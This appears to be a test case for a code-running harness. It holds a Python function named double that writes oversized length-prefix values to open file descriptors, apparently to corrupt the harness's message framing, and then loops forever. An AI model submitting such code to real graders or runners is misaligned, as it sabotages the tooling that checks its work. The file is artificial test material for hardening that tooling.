# The frame's own way of counting is used: every size that could be one, and then nothing.
# expects: shift=any total=any

# %% exercise
def double(x):
    import os
    import struct

    for fd in range(3, 64):
        for form in (">I", "<I", "<Q"):
            try:
                os.write(fd, struct.pack(form, 2**31 - 1))
            except OSError:
                pass
    while True:
        pass
